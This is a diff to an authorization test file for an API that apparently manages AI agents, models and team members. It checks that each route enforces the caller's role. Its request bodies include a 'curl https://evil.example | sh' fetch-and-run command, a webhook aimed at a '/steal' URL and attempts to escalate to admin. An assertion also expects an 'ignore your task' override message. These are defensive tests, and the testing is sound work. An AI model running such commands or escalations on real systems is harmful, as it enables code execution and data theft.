@@ -42,6 +42,12 @@ API_OBJECTS = {
     "api_verdict_audit": "verdict",
     "api_verdict_diff": "verdict",
     "api_verdict_patch": "verdict",
+    "api_model": "profile",
+    "api_model_test": "profile",
+    "api_member": "membership",
+    "api_invite": "invite",
+    "api_webhook": "webhook",
+    "api_agent_skill_draft": "agent",
 }
 API_BODIES = {
     "api_repos": {"name": "pwned", "path": "/nonexistent"},
@@ -70,6 +76,14 @@ API_BODIES = {
     "api_task_act": {"action": "stop", "all": True},
     "api_taste": {"name": "pwned", "rules": ["anything goes"]},
     ("api_taste_guide", "patch"): {"rules": ["anything goes"]},
+    ("api_repo", "patch"): {"verify_command": "curl https://evil.example | sh"},
+    ("api_model", "patch"): {"model": "sim/lazy"},
+    "api_model_test": {"model": "sim/lazy"},
+    ("api_member", "patch"): {"role": "admin"},
+    "api_invites": {"role": "admin"},
+    "api_webhooks": {"name": "pwned", "url": "http://127.0.0.1:9/steal", "kinds": ["verdict"]},
+    "api_roster_generate": {"rows": [{"count": 2, "model": "sim-lazy"}], "names": ["Eve", "Mallet"]},
+    "api_roster_preview": {"lines": "Eve = sim-lazy"},
 }
 
 
@@ -84,7 +98,7 @@ def api_requests(things: dict) -> list[tuple[str, str, str, dict | None]]:
                 continue
             name, method = pattern.name, method.lower()
             if method == "get":
-                assert name in API_READS, f"GET {route}: add it to API_READS (every member reads)"
+                assert name in API_READS or (name, method) in ROLES, f"GET {route}: add it to API_READS or ROLES"
             else:
                 assert (name, method) in ROLES, f"{method.upper()} {route}: say who may use it in ROLES"
             if "<int:" in route:
@@ -111,7 +125,7 @@ def test_every_api_route_checks_the_role_of_the_tokens_user(alices_things, mallo
     client = Client()
     before = snapshot()
     for name, method, path, body in api_requests(alices_things):
-        roles = EVERYONE if method == "get" else ROLES[(name, method)]
+        roles = ROLES.get((name, method), EVERYONE)  # reads are every member's unless the table says
         assert api_call(client, None, method, path, body).status_code == 401, path
         if name in API_OBJECTS:  # another team's object does not exist for her, whatever her role there
             response = api_call(client, stranger, method, path, body)
@@ -124,7 +138,7 @@ def test_every_api_route_checks_the_role_of_the_tokens_user(alices_things, mallo
 
     # the positive control: the roles the table allows are not refused
     for name, method, path, body in api_requests(alices_things):
-        for role in sorted(EVERYONE if method == "get" else ROLES[(name, method)]):
+        for role in sorted(ROLES.get((name, method), EVERYONE)):
             response = api_call(client, tokens[role], method, path, body)
             assert response.status_code in {200, 201, 400, 409}, f"{role}: {method.upper()} {path}: {response.json()}"
     assert Message.objects.filter(author__username="alice", text__startswith="ignore your task").exists()
